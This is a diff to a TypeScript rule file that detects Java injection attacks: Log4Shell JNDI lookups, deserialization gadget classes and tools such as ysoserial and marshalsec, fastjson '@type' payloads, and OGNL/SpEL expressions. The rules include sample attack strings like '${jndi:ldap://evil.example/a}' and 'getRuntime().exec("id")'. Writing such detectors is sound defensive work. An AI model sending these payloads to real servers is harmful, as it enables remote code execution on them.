@@ -11,7 +11,7 @@ export const JAVA: readonly Rule[] = [
     reason: 'a JNDI lookup (Log4Shell)',
     literals: ['jndi', 'ldap:', 'rmi:', 'ldaps:'],
     pattern:
-      /(?:\$?\\?\{?[^a-z]{0,3}jndi[^a-z]{0,4}:|jndi:(?:ldaps?|rmi|dns|iiop|nis|corba|http|nds)|\$\\?\{[^}]{0,200}(?:ldaps?|rmi|dns|iiop|corba):\/\/)/,
+      /(?:\$?\\?\{[^a-z]{0,3}jndi[^a-z]{0,4}:(?!\w{2,5}:\/{0,2}(?:\.{3}|…|<|\[|\s|$))|jndi:(?:ldaps?|rmi|dns|iiop|nis|corba|https?|nds):\/{0,2}[\w$[{*%]|\$\\?\{[^}]{0,200}(?:ldaps?|rmi|dns|iiop|corba):\/\/[\w$[{*%])/,
     views: ['plain', 'glued', 'squeezed'],
     attacks: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://x/a}'],
     harmless: ['JNDI is an interface', 'ldap://directory.example'],
@@ -59,9 +59,13 @@ export const JAVA: readonly Rule[] = [
       'runtime',
       'jdk.',
       'bsh.',
+      'ysoserial',
+      'marshalsec',
+      '.execute()',
+      '@type',
     ],
     pattern:
-      /(?:^|[^\w.])(?:java\.(?:runtime\b|lang\.(?:\w{1,40})|io\.\w{1,40}|net\.(?:url|socket|server|uri)\w{0,24}|util\.(?:scanner|service\w{0,16}|jar|zip|concurrent|prefs|logging|prior\w{0,16}|base64)|rmi|beans|nio|awt|sql|security|math|text)|javax\.(?:script|management|naming|swing|imageio|el|servlet|crypto|sql|xml|security|tools|activation|mail|net|print|sound|transaction|ws|annotation|accessibility|rmi|jws|lang|persistence)|org\.(?:apache\.(?:commons|struts2?|xalan|tomcat|myfaces|wicket|xbean|catalina|log4j|logging|shiro|axis|ibatis|naming|velocity|batik)|omg\.corba|mozilla\.(?:javascript|classfile)|springframework|hibernate|codehaus|jboss|w3c\.dom|xml\.sax|ietf\.jgss|jcp\.xml|python\.core)|com\.(?:opensymphony|sun\.|mchange|oracle\.|ibm\.|bea\.|alibaba\.fastjson|thoughtworks|rometools|nqadmin|caucho)|sun\.(?:misc|net|rmi|reflect|security|print|awt)|clojure\.(?:core|main)|groovy\.(?:lang|util|runtime|ui)|freemarker\.template|bsh\.interpreter|jdk\.(?:nashorn|internal|xml))|getruntime\s?\(|\bprocessbuilder\b|runtime\.exec|classloader\.(?:resources|defineclass|loadclass|parent)|java\/lang\/(?:runtime|process)|unmarshaller/,
+      /(?:^|[^\w.])(?:java\.(?:runtime\b|lang\.(?!\w{1,40}(?:exception|error)\b)\w{1,40}|io\.\w{1,40}|net\.(?:url|socket|server|uri|inet)\w{0,24}|util\.(?:scanner|service\w{0,16}|jar|zip|concurrent|prefs|logging|prior\w{0,16}|base64)|rmi|beans|nio|awt|sql|security|math|text)|javax\.(?:script|management|naming|swing|imageio|el|servlet|crypto|sql|xml|security|tools|activation|mail|net|print|sound|transaction|ws|annotation|accessibility|rmi|jws|lang|persistence)|org\.(?:apache\.(?:commons|struts2?|xalan|tomcat|myfaces|wicket|xbean|catalina|log4j|logging|shiro|axis|ibatis|naming|velocity|batik)|omg\.corba|mozilla\.(?:javascript|classfile)|springframework|hibernate|codehaus|jboss|w3c\.dom|xml\.sax|ietf\.jgss|jcp\.xml|python\.core)|com\.(?:opensymphony|sun\.|mchange|oracle\.|ibm\.|bea\.|alibaba\.fastjson|thoughtworks|rometools|nqadmin|caucho)|sun\.(?:misc|net|rmi|reflect|security|print|awt)|clojure\.(?:core|main)|groovy\.(?:lang|util|runtime|ui)|freemarker\.template|bsh\.interpreter|jdk\.(?:nashorn|internal|xml))|getruntime\s?\(|\bprocessbuilder\b|runtime\.exec|classloader\.(?:resources|defineclass|loadclass|parent)|java\/lang\/(?:runtime|process)|unmarshaller|\bysoserial\b|marshalsec|["']\s?\.execute\(\)|@type["']\s?:\s?["'](?:l?com\.|l?org\.|l?java|l?ch\.|l?br\.|l?net\.)/,
     views: ['plain', 'glued'],
     attacks: ['java.lang.Runtime', 'javax.script.ScriptEngineManager', 'getRuntime().exec("id")'],
     harmless: ['java is an island', 'com.example.app', 'org.example'],
@@ -87,7 +91,7 @@ export const JAVA: readonly Rule[] = [
       '_memberaccess',
     ],
     pattern:
-      /(?:@ognl|ognl\.|#_?memberaccess|#context\[|#(?:a|req|res|rt|cmd|p|f|iswin|cmds|ros|process|application|session|parameters|request|response|attr|dm|out|container|xwork|rce|clazz)\s?=\s?[(@#n]|\bt\s?\(\s?java\.|@java\.|@\w{1,32}(?:\.\w{1,32}){2,8}@\w|class\.(?:module\.)?classloader|getclass\s?\(\s?\)\s?\.|\.getclass\(|\.forname\s?\(|newinstance\s?\(|getenginebyname|scriptenginemanager|class\[["']?(?:module|classloader)|(?:redirect|action|redirectaction):\s?(?:\$|%)\{|new\sjava\.)/,
+      /(?:@ognl|ognl\.|#_?memberaccess|#context\[|#(?:application|session|request|parameters|attr)\s?\[|#(?:a|req|res|rt|cmd|p|f|iswin|cmds|ros|process|application|session|parameters|request|response|attr|dm|out|container|xwork|rce|clazz)\s?=\s?[(@#n]|\bt\s?\(\s?java\.|@java\.|@\w{1,32}(?:\.\w{1,32}){2,8}@\w|class\.(?:module\.)?classloader|getclass\s?\(\s?\)\s?\.|\.getclass\(|\.forname\s?\(|newinstance\s?\(|getenginebyname|scriptenginemanager|class\[["']?(?:module|classloader)|(?:redirect|action|redirectaction):\s?(?:\$|%)\{|new\sjava\.)/,
     attacks: [
       '%{(#_memberAccess=@ognl.OgnlContext@X)}',
       '${T(java.lang.System).getenv()}',
